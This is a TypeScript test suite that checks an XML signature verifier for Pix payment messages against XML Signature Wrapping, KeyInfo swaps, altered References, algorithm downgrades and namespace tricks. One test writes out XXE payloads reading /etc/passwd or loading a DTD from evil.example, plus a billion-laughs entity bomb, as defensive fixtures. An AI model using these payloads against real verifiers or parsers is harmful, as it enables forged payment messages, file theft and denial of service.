/**
 * Attacks on the verifier, one named case each (after xmldsigjs's xsw_enveloped_signature.test.ts and the
 * XML Signature Wrapping literature): every one must end in a precise code, never VALID, unless the test says why
 * the changed message is, by c14n semantics, the same signed content.
 *
 * Many cases are re-signed with the genuine key after the edit (`resign`: digests by libxml2, SignedInfo c14n by
 * libxml2, RSA by node:crypto). That models a key holder, or a non-conformant signer, producing a message whose
 * digests and signature value are all correct, so the only thing between it and VALID is the profile rule the
 * case is about; without it, a missing rule would hide behind SIGNATURE_INVALID.
 */
import t from 'tap'
import { sign as rsaSign } from 'node:crypto'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { parseXml, verifyXml } from '../../core/xmldsig/index.ts'
import { childElements, textContent } from '../../core/xmldsig/xml.ts'
import type { VerifyCode, VerifyOptions, VerifyResult } from '../../core/xmldsig/index.ts'
import { createEntryRequest, pacs008 } from '../../tools/samples/messages.ts'
import { createXmldsigPki } from '../helpers/pki.ts'
import { lxmlDictDigests, lxmlSignedInfoC14n, lxmlSpiDigests } from '../helpers/independent.ts'

/** The subtest object tap passes to a t.test callback (assertions included). */
type TestContext = Parameters<Parameters<typeof t.test>[0]>[0]

const DS = 'http://www.w3.org/2000/09/xmldsig#'
const EXC = 'http://www.w3.org/2001/10/xml-exc-c14n#'
const ENV = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature'

const pki = createXmldsigPki()
const { participant } = pki
const trust = pki.trustStore(participant, pki.bcb)

const spiUnsigned = pacs008({ remittance: 'Aluguel de março', payer: { name: 'Alice Souza', taxId: '52998224725', ispb: '99999004', branch: '0001', account: '123456789' } }).xml
const spi = await participant.xmlSigner.sign(spiUnsigned, 'spi')
const dict = await participant.xmlSigner.sign(createEntryRequest({ key: 'alice@example.com.br' }).xml, 'dict')
const ENV_NS = /<Envelope xmlns="([^"]+)"/.exec(spi)?.[1] ?? ''

/**
 * Milliseconds of CPU this thread has used. The cost bounds below are measured with it rather than the wall clock:
 * a check is as expensive as the work it does, while wall time also counts every moment a loaded machine (the other
 * tap job, CI neighbours) gave the CPU to someone else.
 */
function cpuMs (): number {
  const u = process.threadCpuUsage()
  return (u.user + u.system) / 1000
}

function count (xml: string, what: string | RegExp): number {
  return typeof what === 'string' ? xml.split(what).length - 1 : [...xml.matchAll(new RegExp(what.source, 'g'))].length
}

/** Replaces exactly one occurrence: an edit that silently did nothing would make the case prove nothing. */
function edit (xml: string, from: string | RegExp, to: string): string {
  const n = count(xml, from)
  if (n !== 1) throw new Error(`expected one ${String(from)}, found ${n}`)
  return xml.replace(from, to)
}

function section (xml: string, re: RegExp): string {
  const m = re.exec(xml)
  if (m === null) throw new Error(`${String(re)} not found`)
  return m[0]
}

const SIGNATURE_RE = /<ds:Signature [\s\S]*<\/ds:Signature>/
const DOCUMENT_RE = /<Document>[\s\S]*<\/Document>/
const APPHDR_RE = /<AppHdr>[\s\S]*<\/AppHdr>/
const signature = section(spi, SIGNATURE_RE)
const document = section(spi, DOCUMENT_RE)
const appHdr = section(spi, APPHDR_RE)
const evilDocument = document.replace('Aluguel de março', 'Aluguel de março (pago em dobro)').replace(/150\.75/g, '15075.00')

/**
 * Recomputes the reference digests (libxml2, BACEN semantics, matched to References by URI) and the signature value
 * (libxml2's canonical SignedInfo, RSA with the participant's key) of an edited message.
 */
async function resign (xml: string, profile: 'spi' | 'dict', hash: 'sha256' | 'sha1' = 'sha256'): Promise<string> {
  // By URI: '#…' the KeyInfo, '' the AppHdr (SPI) or the document (DICT), no URI the Document (SPI only).
  const d = profile === 'spi' ? await lxmlSpiDigests(xml) : { ...await lxmlDictDigests(xml), appHdr: null }
  const target = (uri: string | undefined): string | null => {
    if (uri === undefined) return profile === 'spi' ? d.document : null
    if (uri.startsWith('#')) return d.keyInfo
    if (uri === '') return d.appHdr ?? d.document
    return null
  }
  let out = xml.replace(/<((?:[\w-]+:)?)Reference(\s[^>]*)?>([\s\S]*?)<\/\1Reference>/g, (all: string, _p: string, attrs: string | undefined) => {
    const value = target(/\sURI="([^"]*)"/.exec(attrs ?? '')?.[1])
    return value === null ? all : all.replace(/(<(?:[\w-]+:)?DigestValue>)[^<]*</, `$1${value}<`)
  })
  const signedInfo = await lxmlSignedInfoC14n(out)
  const value = rsaSign(hash, signedInfo, participant.key).toString('base64')
  out = out.replace(/(<((?:[\w-]+:)?)SignatureValue>)[^<]*(<\/\2SignatureValue>)/, `$1${value}$3`)
  return out
}

function check (t: TestContext, name: string, xml: string | Uint8Array, code: VerifyCode, options: VerifyOptions = {}): VerifyResult {
  const r = verifyXml(xml, { trustStore: trust, ...options })
  t.equal(r.code, code, `${name}: ${r.message}`)
  t.equal(r.valid, code === 'VALID', `${name}: valid is ${String(code === 'VALID')}`)
  return r
}

function refs (r: VerifyResult): Array<[string, boolean]> {
  return r.references.map((x) => [x.target, x.digestValid])
}

t.test('baseline: the untouched messages verify, and resign() makes valid signatures', async (t) => {
  check(t, 'SPI', spi, 'VALID')
  check(t, 'DICT', dict, 'VALID')
  check(t, 'SPI re-signed', await resign(spi, 'spi'), 'VALID')
  check(t, 'DICT re-signed', await resign(dict, 'dict'), 'VALID')
  // A re-signed edit of the content is valid too: resign() is a real signer, not a way to make things fail.
  check(t, 'SPI content edited and re-signed', await resign(spi.replace(document, evilDocument), 'spi'), 'VALID')
})

t.test('XSW: the signed Document moved into a wrapper, an evil Document in its place', async (t) => {
  const wrapped = edit(spi, document, `${evilDocument}\n  <Wrapper>${document}</Wrapper>`)
  const r = check(t, 'wrapper beside', wrapped, 'PROFILE_VIOLATION')
  t.match(r.message, /Wrapper/)
  const nested = edit(spi, document, evilDocument.replace('</Document>', `<Wrapper>${document}</Wrapper></Document>`))
  t.same(refs(check(t, 'original nested in the evil one', nested, 'DIGEST_MISMATCH')), [['KeyInfo', true], ['AppHdr', true], ['Document', false]])
  const inAppHdr = edit(edit(spi, document, evilDocument), '<Sgntr>', `<Wrapper>${document}</Wrapper><Sgntr>`)
  t.same(refs(check(t, 'original hidden in AppHdr', inAppHdr, 'DIGEST_MISMATCH')), [['KeyInfo', true], ['AppHdr', false], ['Document', false]])
  const inObject = edit(edit(spi, document, evilDocument), '</ds:KeyInfo>', `</ds:KeyInfo><ds:Object>${document}</ds:Object>`)
  t.match(check(t, 'original hidden in a ds:Object', inObject, 'PROFILE_VIOLATION').message, /Object/)
  const inKeyInfo = edit(edit(spi, document, evilDocument), '</ds:X509Data>', `</ds:X509Data>${document}`)
  check(t, 'original hidden in KeyInfo', inKeyInfo, 'PROFILE_VIOLATION')
  const inSgntr = edit(edit(spi, document, evilDocument), '</ds:Signature>', `</ds:Signature>${document}`)
  t.match(check(t, 'original hidden in Sgntr after the signature', inSgntr, 'PROFILE_VIOLATION').message, /Sgntr/)
})

t.test('XSW: a duplicated Document or AppHdr beside the signed one', async (t) => {
  t.match(check(t, 'evil Document after', edit(spi, document, document + evilDocument), 'PROFILE_VIOLATION').message, /more than one Document/)
  t.match(check(t, 'evil Document before', edit(spi, document, evilDocument + document), 'PROFILE_VIOLATION').message, /more than one Document/)
  const evilAppHdr = appHdr.replace(SIGNATURE_RE, '').replace('<Id>00038166</Id>', '<Id>99999010</Id>')
  t.match(check(t, 'evil AppHdr (unsigned) before', edit(spi, appHdr, evilAppHdr + appHdr), 'PROFILE_VIOLATION').message, /more than one AppHdr/)
  t.match(check(t, 'evil AppHdr (unsigned) after', edit(spi, appHdr, appHdr + evilAppHdr), 'PROFILE_VIOLATION').message, /more than one AppHdr/)
  // A verbatim copy repeats the KeyInfo Id; with that renamed it carries a second signature. Both are refused before
  // the layout is even looked at.
  check(t, 'verbatim AppHdr copy', edit(spi, appHdr, appHdr + appHdr), 'XML_DUPLICATE_ID')
  t.match(check(t, 'AppHdr copy with its KeyInfo Id renamed', edit(spi, appHdr, appHdr + appHdr.replace(/key-info-id/g, 'k2')), 'PROFILE_VIOLATION').message, /2 ds:Signature/)
})

t.test('XSW: AppHdr moved', async (t) => {
  const withoutAppHdr = edit(spi, appHdr, '')
  check(t, 'AppHdr moved into Document', edit(withoutAppHdr, '</Document>', appHdr + '</Document>'), 'PROFILE_VIOLATION')
  check(t, 'AppHdr moved into a wrapper', edit(spi, appHdr, `<Wrapper>${appHdr}</Wrapper>`), 'PROFILE_VIOLATION')
  // The ISO 20022 business message envelope (BACEN's Envelope XSD) is a sequence: AppHdr, then Document. Both
  // digests survive the swap (each covers one element), so only the layout rule can refuse it; a message no schema
  // accepts must not be reported VALID.
  check(t, 'AppHdr moved after Document', edit(withoutAppHdr, '</Document>', '</Document>\n  ' + appHdr), 'PROFILE_VIOLATION')
})

t.test('a second ds:Signature anywhere', async (t) => {
  // Another genuine signature (BCB's, over some other message) with its own KeyInfo Id, so that the rule under test
  // is "one signature", not "unique Ids"; a verbatim copy is caught by the Id rule first.
  const other = await pki.bcb.xmlSigner.sign(pacs008().xml, 'spi')
  const second = section(other, SIGNATURE_RE).replace(/key-info-id/g, 'key-info-bcb')
  check(t, 'a verbatim copy in Document', edit(spi, '</FIToFICstmrCdtTrf>', signature + '</FIToFICstmrCdtTrf>'), 'XML_DUPLICATE_ID')
  check(t, 'in Document', edit(spi, '</FIToFICstmrCdtTrf>', second + '</FIToFICstmrCdtTrf>'), 'PROFILE_VIOLATION')
  check(t, 'in a ds:Object of the first', edit(spi, '</ds:KeyInfo>', `</ds:KeyInfo><ds:Object>${second}</ds:Object>`), 'PROFILE_VIOLATION')
  check(t, 'beside it in Sgntr', edit(spi, '</Sgntr>', second + '</Sgntr>'), 'PROFILE_VIOLATION')
  check(t, 'in the Envelope', edit(spi, '</Envelope>', second + '</Envelope>'), 'PROFILE_VIOLATION')
  check(t, 'DICT: another signature at the end of the root', edit(dict, '</CreateEntryRequest>', second + '</CreateEntryRequest>'), 'PROFILE_VIOLATION')
  const r = check(t, 'DICT: another signature inside Entry', edit(dict, '</Entry>', second + '</Entry>'), 'PROFILE_VIOLATION')
  t.match(r.message, /2 ds:Signature/)
})

t.test('the signature moved out of its place', async (t) => {
  const out = edit(spi, signature, '')
  check(t, 'into AppHdr directly', edit(out, '<Sgntr></Sgntr>', '<Sgntr></Sgntr>' + signature), 'PROFILE_VIOLATION')
  check(t, 'first child of the Envelope (looks like DICT)', out.replace(/(<Envelope[^>]*>)/, `$1${signature}`), 'PROFILE_VIOLATION')
  check(t, 'first child of the Envelope, verified as SPI', out.replace(/(<Envelope[^>]*>)/, `$1${signature}`), 'PROFILE_VIOLATION', { profile: 'spi' })
  check(t, 'into Document', edit(out, '<Document>', '<Document>' + signature), 'PROFILE_VIOLATION')
  check(t, 'into a Sgntr inside Document', edit(out, '<Document>', `<Document><AppHdr><Sgntr>${signature}</Sgntr></AppHdr>`), 'PROFILE_VIOLATION')
  const dsig = section(dict, SIGNATURE_RE)
  const dOut = edit(dict, dsig, '')
  check(t, 'DICT: second child of the root', edit(dOut, '</Entry>', '</Entry>' + dsig), 'PROFILE_VIOLATION')
  check(t, 'DICT: inside Entry', edit(dOut, '<Entry>', '<Entry>' + dsig), 'PROFILE_VIOLATION')
  check(t, 'DICT: text before it in the root', edit(dict, '<CreateEntryRequest><ds:Signature', '<CreateEntryRequest>x<ds:Signature'), 'PROFILE_VIOLATION')
})

t.test('KeyInfo swaps', async (t) => {
  const bcbSerial = pki.bcb.certificate.serialDecimal
  const swapped = edit(spi, participant.certificate.serialDecimal, bcbSerial)
  const r = check(t, 'KeyInfo naming another trusted certificate', swapped, 'DIGEST_MISMATCH')
  t.same(refs(r), [['KeyInfo', false], ['AppHdr', true], ['Document', true]])
  t.equal(r.signatureValid, false, 'and the BCB key does not verify the participant\'s signature')
  t.equal(r.signer?.serial, bcbSerial)
  // The attacker also fixes the KeyInfo digest: now only the signature value is wrong.
  const keyInfoDigest = (await lxmlSpiDigests(swapped)).keyInfo ?? ''
  const fixed = swapped.replace(/(<ds:Reference URI="#key-info-id">[\s\S]*?<ds:DigestValue>)[^<]*/, `$1${keyInfoDigest}`)
  const f = check(t, 'KeyInfo swapped and its digest fixed', fixed, 'SIGNATURE_INVALID')
  t.same(refs(f), [['KeyInfo', true], ['AppHdr', true], ['Document', true]])
  const keyInfo = section(spi, /<ds:KeyInfo [\s\S]*<\/ds:KeyInfo>/)
  const planted = keyInfo.replace(participant.certificate.serialDecimal, bcbSerial).replace(/<ds:/g, '<x:').replace(/<\/ds:/g, '</x:')
    .replace('<x:KeyInfo', `<x:KeyInfo xmlns:x="${DS}"`)
  check(t, 'a second KeyInfo with the same Id in Document', edit(spi, '<Document>', '<Document>' + planted), 'XML_DUPLICATE_ID')
})

t.test('a Reference URI pointing at an element planted with the KeyInfo\'s Id', async (t) => {
  for (const attr of ['Id', 'ID', 'id', 'xml:id']) {
    check(t, `${attr}="key-info-id" in Document`, edit(spi, '<Dbtr>', `<Dbtr ${attr}="key-info-id">`), 'XML_DUPLICATE_ID')
    check(t, `${attr}="key-info-id" in AppHdr`, edit(spi, '<Fr>', `<Fr ${attr}="key-info-id">`), 'XML_DUPLICATE_ID')
  }
  check(t, 'DICT', edit(dict, '<Entry>', '<Entry Id="key-info-id">'), 'XML_DUPLICATE_ID')
  // The KeyInfo renamed so that the Id is unique, and everything re-signed: the Reference now names an element that
  // is not this signature's KeyInfo, which the profile refuses whatever the digests say.
  const renamed = edit(edit(spi, '<ds:KeyInfo Id="key-info-id">', '<ds:KeyInfo Id="other">'), '<Dbtr>', '<Dbtr Id="key-info-id">')
  const r = check(t, 'KeyInfo renamed, Id planted, re-signed', await resign(renamed, 'spi'), 'PROFILE_VIOLATION')
  t.match(r.message, /does not name this signature's ds:KeyInfo/)
  check(t, 'a Reference to an Id nobody has', await resign(edit(spi, 'URI="#key-info-id"', 'URI="#nobody"'), 'spi'), 'PROFILE_VIOLATION')
  // Any Id on the KeyInfo is fine when the Reference names it (BACEN itself uses key-info-id, AWS a UUID).
  const uuid = edit(edit(spi, '<ds:KeyInfo Id="key-info-id">', '<ds:KeyInfo Id="_3f2a9c1e">'), 'URI="#key-info-id"', 'URI="#_3f2a9c1e"')
  check(t, 'another KeyInfo Id, re-signed', await resign(uuid, 'spi'), 'VALID')
})

t.test('References added, removed, reordered or duplicated', async (t) => {
  const refsOf = (xml: string): string[] => [...xml.matchAll(/<ds:Reference[ >][\s\S]*?<\/ds:Reference>/g)].map((m) => m[0])
  const [r1, r2, r3] = refsOf(spi) as [string, string, string]
  const extra = r3.replace('<ds:Reference>', '<ds:Reference URI="#x">')
  check(t, 'a fourth Reference, re-signed', await resign(edit(spi, r3, r3 + extra), 'spi'), 'PROFILE_VIOLATION')
  check(t, 'the Document Reference removed, re-signed', await resign(edit(spi, r3, ''), 'spi'), 'PROFILE_VIOLATION')
  check(t, 'the AppHdr Reference removed, re-signed', await resign(edit(spi, r2, ''), 'spi'), 'PROFILE_VIOLATION')
  check(t, 'the KeyInfo Reference removed, re-signed', await resign(edit(spi, r1, ''), 'spi'), 'PROFILE_VIOLATION')
  const dup = check(t, 'the Document Reference twice instead of the AppHdr one, re-signed', await resign(edit(spi, r2, r3), 'spi'), 'PROFILE_VIOLATION')
  t.match(dup.message, /two References/)
  check(t, 'the KeyInfo Reference twice, re-signed', await resign(edit(spi, r3, r1), 'spi'), 'PROFILE_VIOLATION')
  const reordered = edit(spi, r1 + r2 + r3, r3 + r1 + r2)
  const ro = check(t, 'reordered by an attacker', reordered, 'SIGNATURE_INVALID')
  t.same(refs(ro), [['Document', true], ['KeyInfo', true], ['AppHdr', true]], 'each Reference still found its own target')
  // Reordered by the key holder it is the same statement: References are matched to targets by URI, not position,
  // as a standard XMLDSig verifier (BACEN's) also does.
  check(t, 'reordered and re-signed', await resign(reordered, 'spi'), 'VALID')
  const [d1, d2] = refsOf(dict) as [string, string]
  check(t, 'DICT: an AppHdr-style Reference added, re-signed', await resign(edit(dict, d2, d2 + r3), 'dict'), 'PROFILE_VIOLATION')
  check(t, 'DICT: only one Reference, re-signed', await resign(edit(dict, d1, ''), 'dict'), 'PROFILE_VIOLATION')
  check(t, 'DICT: the SPI references, re-signed', await resign(edit(dict, d1 + d2, r1 + r2 + r3), 'dict'), 'PROFILE_VIOLATION')
  for (const uri of ['#xpointer(/)', '#xpointer(id(\'key-info-id\'))', ' ', 'http://evil.example/doc.xml', '#']) {
    check(t, `Reference URI ${JSON.stringify(uri)}`, await resign(spi.replace('URI=""', `URI="${uri}"`), 'spi'), 'PROFILE_VIOLATION')
  }
})

t.test('Transforms, canonicalization, signature and digest algorithms changed (all re-signed)', async (t) => {
  const T = (alg: string, inner = ''): string => `<ds:Transform Algorithm="${alg}">${inner}</ds:Transform>`
  const excT = T(EXC)
  const envT = T(ENV)
  const ref2 = envT + excT
  const cases: Array<[string, string]> = [
    ['inclusive c14n on the Document Reference', spi.replace(`<ds:Reference><ds:Transforms>${excT}`, `<ds:Reference><ds:Transforms>${T('http://www.w3.org/TR/2001/REC-xml-c14n-20010315')}`)],
    ['exc-c14n with comments on the KeyInfo Reference', edit(spi, `<ds:Reference URI="#key-info-id"><ds:Transforms>${excT}`, `<ds:Reference URI="#key-info-id"><ds:Transforms>${T(EXC + 'WithComments')}`)],
    ['an XPath Transform added', edit(spi, ref2, envT + T('http://www.w3.org/TR/1999/REC-xpath-19991116', '<ds:XPath>not(ancestor-or-self::Document)</ds:XPath>') + excT)],
    ['XPath Filter 2.0 instead of enveloped', edit(spi, ref2, T('http://www.w3.org/2002/06/xmldsig-filter2', '<dsp:XPath xmlns:dsp="http://www.w3.org/2002/06/xmldsig-filter2" Filter="subtract">//ds:Signature</dsp:XPath>') + excT)],
    ['no enveloped-signature on Reference 2', edit(spi, ref2, excT)],
    ['enveloped-signature after exc-c14n', edit(spi, ref2, excT + envT)],
    ['enveloped-signature on Reference 3 too', spi.replace(`<ds:Reference><ds:Transforms>${excT}`, `<ds:Reference><ds:Transforms>${envT}${excT}`)],
    ['no Transforms at all on Reference 3', spi.replace(`<ds:Reference><ds:Transforms>${excT}</ds:Transforms>`, '<ds:Reference>')],
    ['InclusiveNamespaces PrefixList in the exc-c14n Transform', spi.replace(`<ds:Reference><ds:Transforms>${excT}`, `<ds:Reference><ds:Transforms>${T(EXC, `<ec:InclusiveNamespaces xmlns:ec="${EXC}" PrefixList="#default"></ec:InclusiveNamespaces>`)}`)],
    ['InclusiveNamespaces in CanonicalizationMethod', edit(spi, `<ds:CanonicalizationMethod Algorithm="${EXC}"></ds:CanonicalizationMethod>`, `<ds:CanonicalizationMethod Algorithm="${EXC}"><ec:InclusiveNamespaces xmlns:ec="${EXC}" PrefixList="ds"></ec:InclusiveNamespaces></ds:CanonicalizationMethod>`)],
    ['inclusive CanonicalizationMethod', edit(spi, `<ds:CanonicalizationMethod Algorithm="${EXC}">`, '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315">')],
    ['CanonicalizationMethod with comments', edit(spi, `<ds:CanonicalizationMethod Algorithm="${EXC}">`, `<ds:CanonicalizationMethod Algorithm="${EXC}WithComments">`)],
    ['a Transform without Algorithm', spi.replace(`<ds:Reference><ds:Transforms>${excT}`, '<ds:Reference><ds:Transforms><ds:Transform></ds:Transform>')],
    ['DigestMethod SHA-512', spi.replace(/<ds:DigestMethod Algorithm="[^"]+">/, '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha512">')],
    ['an extra attribute on Reference', edit(spi, '<ds:Reference URI="">', '<ds:Reference URI="" Type="http://www.w3.org/2000/09/xmldsig#Object">')],
    ['a namespaced URI attribute beside the real one', edit(spi, '<ds:Reference URI="">', '<ds:Reference URI="" ds:URI="#key-info-id">')],
    ['a ds:Object after KeyInfo', edit(spi, '</ds:KeyInfo>', '</ds:KeyInfo><ds:Object Id="o">payload</ds:Object>')],
    ['an X509Certificate in KeyInfo (a key a naive verifier would use)', edit(spi, '</ds:X509IssuerSerial>', `</ds:X509IssuerSerial><ds:X509Certificate>${pki.bcb.certificate.der.toString('base64')}</ds:X509Certificate>`)],
    ['a KeyValue in KeyInfo', edit(spi, '</ds:X509Data>', '</ds:X509Data><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>AQAB</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>')],
    ['a processing instruction in SignedInfo', edit(spi, '<ds:SignedInfo>', '<ds:SignedInfo><?evil x?>')],
    ['text in Signature', edit(spi, '<ds:SignedInfo>', 'x<ds:SignedInfo>')]
  ]
  for (const [name, xml] of cases) {
    t.not(xml, spi, `${name}: the edit applied`)
    check(t, name, await resign(xml, 'spi'), 'PROFILE_VIOLATION')
  }
  // SHA-1 throughout, signed with SHA-1 by the key holder: a consistent signature in a weaker profile.
  const sha1 = spi.replace(/xmldsig-more#rsa-sha256/, 'xmldsig#rsa-sha1').replace(/xmlenc#sha256/g, 'xmldsig#sha1')
  t.match(check(t, 'rsa-sha1 + sha1, re-signed with SHA-1', await resign(sha1, 'spi', 'sha1'), 'PROFILE_VIOLATION').message, /rsa-sha1/)
  check(t, 'rsa-sha1 SignatureMethod only', await resign(spi.replace('xmldsig-more#rsa-sha256', 'xmldsig#rsa-sha1'), 'spi', 'sha1'), 'PROFILE_VIOLATION')
  check(t, 'DigestMethod sha1 only', await resign(spi.replace(/xmlenc#sha256/g, 'xmldsig#sha1'), 'spi'), 'PROFILE_VIOLATION')
  const hmac = edit(spi, '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"></ds:SignatureMethod>',
    '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"></ds:SignatureMethod>')
  check(t, 'HMAC-SHA256 SignatureMethod', hmac, 'PROFILE_VIOLATION')
  check(t, 'HMAC with a truncated output length', edit(spi, '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"></ds:SignatureMethod>',
    '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>'), 'PROFILE_VIOLATION')
  check(t, 'DICT: inclusive c14n on the document Reference', await resign(dict.replace(`${T(ENV)}${T(EXC)}`, `${T(ENV)}${T('http://www.w3.org/TR/2001/REC-xml-c14n-20010315')}`), 'dict'), 'PROFILE_VIOLATION')
})

t.test('DOCTYPE, entities and entity expansion', async (t) => {
  const body = spi.replace(/^<\?xml[^>]*>\n/, '')
  const amt = edit(body, 'Aluguel de março', '&amt;')
  check(t, 'internal entity used in signed content', '<!DOCTYPE Envelope [<!ENTITY amt "Aluguel de março">]>\n' + amt, 'XML_DTD_FORBIDDEN')
  check(t, 'external entity (XXE)', '<!DOCTYPE Envelope [<!ENTITY amt SYSTEM "file:///etc/passwd">]>\n' + amt, 'XML_DTD_FORBIDDEN')
  check(t, 'parameter entity with an external DTD', '<!DOCTYPE Envelope [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>\n' + body, 'XML_DTD_FORBIDDEN')
  check(t, 'DOCTYPE without entities', '<!DOCTYPE Envelope>\n' + body, 'XML_DTD_FORBIDDEN')
  check(t, 'an entity reference with no DOCTYPE', amt, 'XML_DTD_FORBIDDEN')
  check(t, 'DOCTYPE inside the Document', edit(body, '<Document>', '<Document><!DOCTYPE x>'), 'XML_DTD_FORBIDDEN')
  check(t, 'DICT: DOCTYPE', '<!DOCTYPE CreateEntryRequest [<!ENTITY k "x">]>' + dict.replace(/^<\?xml[^>]*>\n/, ''), 'XML_DTD_FORBIDDEN')

  const lol = ['<!ENTITY lol "lol">']
  for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`)
  const laughs = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${lol.join('\n')}\n]>\n` + edit(body, 'Aluguel de março', '&lol9;')
  const started = cpuMs()
  const r = check(t, 'billion laughs', laughs, 'XML_DTD_FORBIDDEN')
  const ms = cpuMs() - started
  // An expansion would take seconds of CPU and gigabytes; refusing it takes a few CPU milliseconds.
  t.ok(ms < 1_000, `refused in ${ms.toFixed(2)} CPU ms, before any expansion`)
  t.equal(r.references.length, 0)
  check(t, 'billion laughs as bytes', Buffer.from(laughs, 'utf8'), 'XML_DTD_FORBIDDEN')
})

t.test('namespace tricks', async (t) => {
  // Look-alike namespaces: namespace names are compared as strings, so none of these is an XMLDSig signature.
  for (const ns of [DS + 'x', DS.slice(0, -1), DS.toUpperCase(), 'http://www.w3.org/2000/09/xmldsig#'.replace('http', 'https')]) {
    const fake = edit(spi, `xmlns:ds="${DS}"`, `xmlns:ds="${ns}"`)
    t.match(check(t, `signature in ${ns}`, fake, 'SIGNATURE_MISSING').message, /no ds:Signature/)
    const beside = edit(spi, '</Sgntr>', section(fake, SIGNATURE_RE).replace(/key-info-id/g, 'k2') + '</Sgntr>')
    t.match(check(t, `a ${ns} signature beside the real one`, beside, 'PROFILE_VIOLATION').message, /Sgntr/)
  }

  // Prefixes do not matter, namespaces do: a signature made with another prefix, or with the XMLDSig namespace as
  // the default, is as valid as one with ds:. But the prefix is part of the canonical bytes, so renaming it in a
  // signed message without re-signing breaks the KeyInfo digest and the signature value (exc-c14n keeps prefixes).
  const renamed = spi.replace(/<ds:/g, '<dsig:').replace(/<\/ds:/g, '</dsig:').replace('xmlns:ds=', 'xmlns:dsig=')
  t.equal(count(renamed, '<ds:'), 0)
  const rr = check(t, 'prefix renamed, not re-signed', renamed, 'DIGEST_MISMATCH')
  t.same(refs(rr), [['KeyInfo', false], ['AppHdr', true], ['Document', true]], 'the AppHdr digest excludes the signature, whatever its prefix')
  t.equal(rr.signatureValid, false)
  check(t, 'signed with prefix dsig:', await resign(renamed, 'spi'), 'VALID')
  const dflt = spi.replace(/<ds:/g, '<').replace(/<\/ds:/g, '</').replace(`xmlns:ds="${DS}"`, `xmlns="${DS}"`)
  check(t, 'signed with XMLDSig as the default namespace', await resign(dflt, 'spi'), 'VALID')
  const dRenamed = dict.replace(/<ds:/g, '<s:').replace(/<\/ds:/g, '</s:').replace('xmlns:ds=', 'xmlns:s=')
  check(t, 'DICT signed with prefix s:', await resign(dRenamed, 'dict'), 'VALID')

  // Document in another namespace (or with the Envelope's namespace spelled through a prefix).
  const otherNs = edit(spi, '<Document>', '<Document xmlns="urn:evil">')
  t.match(check(t, 'Document in another namespace', otherNs, 'PROFILE_VIOLATION').message, /namespace/)
  const prefixed = edit(edit(spi, '<Document>', `<b:Document xmlns:b="${ENV_NS}">`), '</Document>', '</b:Document>')
  t.same(refs(check(t, 'Document with a prefix for the same namespace', prefixed, 'DIGEST_MISMATCH')), [['KeyInfo', true], ['AppHdr', true], ['Document', false]])
  check(t, 'AppHdr in another namespace', edit(spi, '<AppHdr>', '<AppHdr xmlns="urn:evil">'), 'PROFILE_VIOLATION')

  // Redeclaring the default namespace inside Document moves the elements to another namespace: new digest.
  const redeclared = edit(spi, '<FIToFICstmrCdtTrf>', '<FIToFICstmrCdtTrf xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">')
  t.same(refs(check(t, 'default namespace redeclared inside Document', redeclared, 'DIGEST_MISMATCH')), [['KeyInfo', true], ['AppHdr', true], ['Document', false]])
  const undeclared = edit(spi, '<FIToFICstmrCdtTrf>', '<FIToFICstmrCdtTrf xmlns="">')
  t.same(refs(check(t, 'default namespace undeclared inside Document', undeclared, 'DIGEST_MISMATCH')), [['KeyInfo', true], ['AppHdr', true], ['Document', false]])
  // Redeclared to the same URI it changes nothing: exc-c14n drops a declaration its output parent already made.
  check(t, 'default namespace redeclared to the same URI', edit(spi, '<FIToFICstmrCdtTrf>', `<FIToFICstmrCdtTrf xmlns="${ENV_NS}">`), 'VALID')
  // The Envelope's namespace is inherited by AppHdr and Document, so changing it changes both digests.
  const envNs = edit(spi, `<Envelope xmlns="${ENV_NS}">`, '<Envelope xmlns="https://www.bcb.gov.br/pi/pacs.008/1.99">')
  t.same(refs(check(t, 'Envelope namespace changed', envNs, 'DIGEST_MISMATCH')), [['KeyInfo', true], ['AppHdr', false], ['Document', false]])
  // An unused prefix declared on an ancestor is not rendered by exclusive c14n.
  check(t, 'unused prefix declared on the Envelope', edit(spi, `<Envelope xmlns="${ENV_NS}">`, `<Envelope xmlns="${ENV_NS}" xmlns:x="urn:x">`), 'VALID')
})

t.test('comment injection inside a signed text value is the same canonical text (VALID, and correctly so)', async (t) => {
  // The SAML comment-injection bugs (CVE-2017-11427 family) were not in c14n: `Ali<!---->ce` canonicalises to
  // `Alice` by definition (comments are not in the without-comments node set), so the signature is rightly valid.
  // The bug was in consumers that read only the first text node ("Ali"). What matters here is that pix-proxy's own
  // reading of the value sees the whole text.
  const injected = edit(spi, '<Nm>Alice Souza</Nm>', '<Nm>Ali<!---->ce Souza</Nm>')
  check(t, 'Ali<!---->ce', injected, 'VALID')
  const doc = parseXml(injected)
  const find = (el: typeof doc.root, local: string): typeof doc.root | undefined =>
    el.local === local ? el : childElements(el).map((c) => find(c, local)).find((x) => x !== undefined)
  const nm = find(doc.root, 'Nm')
  t.equal(nm?.children.length, 3, 'the comment splits the text in the tree')
  t.equal(nm === undefined ? '' : textContent(nm), 'Alice Souza', 'the value read is the whole text')
  check(t, 'a PI in the same place is content', edit(spi, '<Nm>Alice Souza</Nm>', '<Nm>Ali<?x?>ce Souza</Nm>'), 'DIGEST_MISMATCH')
  check(t, 'DICT', edit(dict, '<Key>alice@example.com.br</Key>', '<Key>alice@<!-- -->example.com.br</Key>'), 'VALID')
})

t.test('white space, line ending and representation variants', async (t) => {
  // Line endings are normalised by every XML parser before c14n: the signed content is the same.
